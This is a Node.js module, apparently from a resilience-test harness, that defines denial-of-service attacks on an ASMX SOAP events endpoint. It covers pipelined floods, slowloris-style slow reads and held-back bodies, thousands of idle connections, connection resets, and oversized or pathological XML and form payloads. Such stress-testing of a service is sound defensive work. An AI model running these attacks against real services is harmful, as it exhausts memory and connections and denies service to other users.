/** What one hostile client can do to the service's memory and to everybody's time. */
const { connect } = require('node:net');
const { once } = require('node:events');
const { setTimeout: sleep } = require('node:timers/promises');
const { get } = require('./data');

const ENDPOINT = '/WebServices/Events.asmx';

/** The longest bodies that the service takes, in bytes: its defaults, and ASMX's. */
const SIZES = { usual: { soap: 524_288, form: 65_536 }, asmx: { soap: 4_194_304, form: 4_194_304 } };

/**
 * @typedef {object} Sizes
 * @property {number} soap
 * @property {number} form
 *
 * @typedef {object} Attack
 * @property {string} name
 * @property {(target: Target) => Promise<void>} run
 */

/** The service as an attacker sees it; every socket is closed when the attack is over. */
class Target {
  /** @type {Set<import('node:net').Socket>} */
  #sockets = new Set();

  /** @param {{ host: string, port: number }} address */
  constructor({ host, port }) {
    this.host = host;
    this.port = port;
  }

  /**
   * @param {object} [options]
   * @param {boolean} [options.reads] whether what comes is read
   * @param {string} [options.from] the address that it comes from
   */
  async open({ reads = false, from } = {}) {
    const socket = connect({ host: this.host, port: this.port, ...(from && { localAddress: from }) });
    this.#sockets.add(socket);
    socket.on('error', () => {});
    socket.once('close', () => this.#sockets.delete(socket));
    if (reads) socket.resume();
    await Promise.race([once(socket, 'connect').catch(() => {}), once(socket, 'close')]);
    return socket;
  }

  /**
   * Sends requests, the last of which asks for the end of the connection, and reads until then.
   * @param {string} request
   */
  async ask(request) {
    const socket = await this.open({ reads: true });
    const closed = new Promise((resolve) => socket.once('close', resolve));
    const last = request.lastIndexOf('Host: h\r\n');
    socket.write(`${request.slice(0, last)}Connection: close\r\n${request.slice(last)}`);
    if (!socket.destroyed) await closed;
  }

  close() {
    for (const socket of this.#sockets) socket.destroy();
  }
}

/**
 * @param {number} count
 * @param {(index: number) => Promise<unknown>} work
 */
const times = (count, work) => Promise.all(Array.from({ length: count }, (_, index) => work(index)));

/**
 * Sends `piece` so many times, as fast as the other side takes it; gives up when it takes nothing for ten seconds.
 * @param {import('node:net').Socket} socket
 * @param {Buffer} piece
 */
async function pour(socket, piece, count = 1) {
  for (let sent = 0; sent < count && socket.writable; sent++) {
    if (socket.write(piece)) continue;
    await new Promise((resolve) => {
      const timer = setTimeout(resolve, 10_000);
      for (const event of ['drain', 'close']) {
        socket.once(event, () => {
          clearTimeout(timer);
          resolve(undefined);
        });
      }
    });
  }
}

const SOAP_HEADERS =
  'Content-Type: text/xml; charset=utf-8\r\nSOAPAction: "http://tempuri.org/SelectEvents"\r\n';
const FORM_HEADERS = 'Content-Type: application/x-www-form-urlencoded\r\n';

/** @param {string} body */
const soap = (body, headers = SOAP_HEADERS) =>
  `POST ${ENDPOINT} HTTP/1.1\r\nHost: h\r\n${headers}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;

/** @param {string} body */
const form = (body, headers = FORM_HEADERS) =>
  `POST ${ENDPOINT}/SelectEvents HTTP/1.1\r\nHost: h\r\n${headers}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;

/**
 * A body of `size` bytes, of `unit` between what is around it.
 * @param {number} size
 * @param {string} unit
 */
const filled = (size, unit, before = '', after = '') =>
  before + unit.repeat(Math.floor((size - before.length - after.length) / Buffer.byteLength(unit))) + after;

const OPEN = '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>';
const CALL = '<SelectEvents xmlns="http://tempuri.org/"><month>5</month><year>2031</year></SelectEvents>';
const CLOSE = '</s:Body></s:Envelope>';

/**
 * Requests of the largest size that were found to cost the most, or that look as if they could.
 * @type {Readonly<Record<string, (sizes: Sizes) => string>>}
 */
const REQUESTS = {
  'carriage returns': ({ soap: size }) => soap(filled(size, '\r', OPEN, CALL + CLOSE)),
  'carriage returns in a value': ({ soap: size }) =>
    soap(
      filled(
        size,
        '\r',
        `${OPEN}<SelectEvents xmlns="http://tempuri.org/"><month>`,
        `5</month><year>2031</year></SelectEvents>${CLOSE}`,
      ),
    ),
  'blanks in the declaration': ({ soap: size }) =>
    soap(filled(size, ' ', '<?xml version="1.0"', `?>${OPEN}${CALL}${CLOSE}`)),
  'a declaration without an end': ({ soap: size }) => soap(filled(size, ' ', '<?xml version="1.0"', '?')),
  'brackets in a CDATA section': ({ soap: size }) =>
    soap(filled(size, ']', `${OPEN}${CALL}<![CDATA[`, ` ]]>${CLOSE}`)),
  'CDATA sections': ({ soap: size }) => soap(filled(size, '<![CDATA[]]>', OPEN + CALL, CLOSE)),
  'empty elements': ({ soap: size }) => soap(filled(size, '<a/>', OPEN + CALL, CLOSE)),
  'elements in the header': ({ soap: size }) =>
    soap(filled(size, '<a/>', OPEN.replace('<s:Body>', '<s:Header>'), `</s:Header><s:Body>${CALL}${CLOSE}`)),
  'a comment': ({ soap: size }) => soap(filled(size, '-x', `${OPEN}<!--`, `x-->${CALL}${CLOSE}`)),
  'an instruction': ({ soap: size }) => soap(filled(size, '? ', `${OPEN}<?p `, `?>${CALL}${CLOSE}`)),
  'an attribute': ({ soap: size }) => soap(filled(size, '&amp;', `${OPEN}<a b="`, `"/>${CALL}${CLOSE}`)),
  'entities in text': ({ soap: size }) => soap(filled(size, '&#65;', `${OPEN}<a>`, `</a>${CALL}${CLOSE}`)),
  'a digit': ({ soap: size }) =>
    soap(
      filled(
        size,
        '0',
        `${OPEN}<SelectEvents xmlns="http://tempuri.org/"><month>`,
        `5</month><year>2031</year></SelectEvents>${CLOSE}`,
      ),
    ),
  'routed by content': ({ soap: size }) =>
    soap(filled(size, '\n', OPEN, CALL + CLOSE), 'Content-Type: text/xml; charset=utf-8\r\n'),
  'as UTF-7': ({ soap: size }) =>
    soap(filled(size, '+AGE-', `${OPEN}<a>`, `</a>${CALL}${CLOSE}`), SOAP_HEADERS.replace('utf-8', 'utf-7')),
  'as GB18030': ({ soap: size }) =>
    soap(filled(size, 'a', `${OPEN}<a>`, `</a>${CALL}${CLOSE}`), SOAP_HEADERS.replace('utf-8', 'gb18030')),
  'a value of a form': ({ form: size }) => form(filled(size, '%u0041', 'month=5&year=2031&x=')),
  'bytes of a form': ({ form: size }) => form(filled(size, '%41', 'month=5&year=2031&x=')),
  'a number of a form': ({ form: size }) => form(filled(size, '+', 'year=2031&month=5')),
  'a name of a form': ({ form: size }) => form(filled(size, '%', 'month=5&year=2031&', '=1')),
  'pairs of a form': ({ form: size }) => form(filled(size, 'a=&', 'month=5&year=2031&')),
  'values of one name': ({ form: size }) => form(filled(size, '&', 'month=5&year=2031')),
  'a form as GB18030': ({ form: size }) =>
    form(filled(size, '%81', 'month=5&year=2031&x='), FORM_HEADERS.replace('\r\n', '; charset=gb18030\r\n')),
  'line feeds in an attribute': ({ soap: size }) =>
    soap(filled(size, '\n', `${OPEN}<a b="`, `"/>${CALL}${CLOSE}`)),
  attributes: ({ soap: size }) =>
    soap(
      filled(
        size,
        `<a ${Array.from({ length: 256 }, (_, at) => `b${at}=""`).join(' ')}/>`,
        OPEN + CALL,
        CLOSE,
      ),
    ),
  namespaces: ({ soap: size }) => soap(filled(size, '<a xmlns:b="c" xmlns:d="e"/>', OPEN + CALL, CLOSE)),
  'nested elements': ({ soap: size }) =>
    soap(filled(size, `${'<a>'.repeat(255)}${'</a>'.repeat(255)}`, OPEN + CALL, CLOSE)),
  'a document that ends in a tag': ({ soap: size }) => soap(filled(size, ' b="c"', `${OPEN}<a`)),
  'a query of escapes': () => get('small').replace('month', `x=${'%41'.repeat(600)}&month`),
  'a path of dots': () => get('small').replace('/Web', `${'/%2e'.repeat(2_000)}/Web`),
  'a path that is nobody’s': () => `GET ${'/'.repeat(8_000)} HTTP/1.1\r\nHost: h\r\n\r\n`,
  'a Host of dots': () => get('small').replace('Host: h', `Host: ${'a.'.repeat(7_000)}`),
  'a Content-Type of parameters': () =>
    soap(OPEN + CALL + CLOSE, SOAP_HEADERS.replace('; charset=utf-8', ';a="'.repeat(3_500))),
  'a SOAPAction of escapes': () =>
    soap(OPEN + CALL + CLOSE, SOAP_HEADERS.replace('http:', '%u0041'.repeat(2_500))),
};

/**
 * @param {Sizes} sizes of the longest bodies
 * @returns {readonly Attack[]}
 */
const attacksOf = (sizes) => [
  {
    name: '600 long answers pipelined on one connection, none read',
    async run(target) {
      (await target.open()).write(get('long').repeat(600));
      await sleep(8_000);
    },
  },
  {
    name: '200 long answers pipelined on one connection, all read',
    run: (target) => target.ask(get('long').repeat(200)),
  },
  {
    name: '300 connections, a long answer each, none read',
    async run(target) {
      await times(300, async () => (await target.open()).write(get('long')));
      await sleep(8_000);
    },
  },
  {
    name: '64 clients at a time read 4 long answers each',
    run: async (target) => {
      await times(64, () => target.ask(get('long').repeat(4)));
    },
  },
  {
    name: '96 answers of 10 MB at once, all read',
    run: async (target) => {
      await times(96, () => target.ask(get('huge')));
    },
  },
  {
    name: '100 readers of one byte a second, a long answer each',
    async run(target) {
      await times(100, async () => {
        const socket = await target.open();
        socket.write(get('long'));
        const timer = setInterval(() => socket.read(1), 1_000);
        socket.once('close', () => clearInterval(timer));
      });
      await sleep(8_000);
    },
  },
  {
    name: '10,000 connections that say nothing',
    async run(target) {
      for (let round = 0; round < 20; round++)
        await times(500, () => target.open({ reads: true, from: `127.0.0.${2 + (round % 4)}` }));
      await sleep(3_000);
    },
  },
  {
    name: '4,000 connections kept alive after a call',
    async run(target) {
      for (let round = 0; round < 20; round++)
        await times(200, async () => (await target.open({ reads: true })).write(get('small')));
      await sleep(3_000);
    },
  },
  {
    name: '4 of the longest bodies in chunks of one byte',
    async run(target) {
      const head = `POST ${ENDPOINT} HTTP/1.1\r\nHost: h\r\n${SOAP_HEADERS}Transfer-Encoding: chunked\r\n\r\n`;
      const chunks = Buffer.from('1\r\nx\r\n'.repeat(sizes.soap / 64));
      await times(4, async () => {
        const socket = await target.open({ reads: true });
        socket.write(head);
        await pour(socket, chunks, 64);
      });
      await sleep(1_000);
    },
  },
  {
    name: '200 of the longest bodies held back before their last byte',
    async run(target) {
      const body = filled(sizes.soap, 'x');
      const request = Buffer.from(soap(body).slice(0, -1));
      await times(200, async () => pour(await target.open({ reads: true }), request));
      await sleep(6_000);
    },
  },
  {
    name: '64 of the longest bodies, of elements, at once',
    async run(target) {
      const request = REQUESTS['empty elements']?.(sizes) ?? '';
      await times(64, () => target.ask(request));
    },
  },
  {
    name: '3,000 clients that ask for a long answer and are gone',
    async run(target) {
      for (let round = 0; round < 30; round++)
        await times(100, async () => {
          const socket = await target.open();
          socket.write(get('long'), () => socket.resetAndDestroy());
        });
      await sleep(2_000);
    },
  },
  {
    name: '250 connections of 100 pipelined calls, reset',
    async run(target) {
      for (let round = 0; round < 250; round++) {
        const socket = await target.open();
        socket.write(get('small').repeat(100), () => socket.resetAndDestroy());
        await once(socket, 'close');
      }
      await sleep(1_000);
    },
  },
  ...Object.entries(REQUESTS).map(([what, request]) => ({
    name: `one request: ${what}`,
    run: (/** @type {Target} */ target) => target.ask(request(sizes)),
  })),
];

module.exports = { attacksOf, REQUESTS, SIZES, Target };
